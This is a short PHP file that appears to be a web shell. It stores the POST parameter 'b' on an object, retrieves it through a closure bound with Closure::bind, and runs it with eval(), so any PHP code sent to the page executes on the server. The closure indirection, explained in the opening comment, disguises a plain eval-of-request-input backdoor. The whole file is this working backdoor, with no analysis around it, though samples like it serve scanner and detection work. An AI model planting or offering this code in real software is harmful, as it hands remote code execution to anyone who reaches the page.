<?php
// The request is parked on an object; a closure bound to it with Closure::bind
// hands the parked text back to eval.
class Holder { public $body = ''; }
$o = new Holder();
$o->body = $_POST['b'] ?? '';
$get = Closure::bind(function () { return $this->body; }, $o, Holder::class);
eval($get());
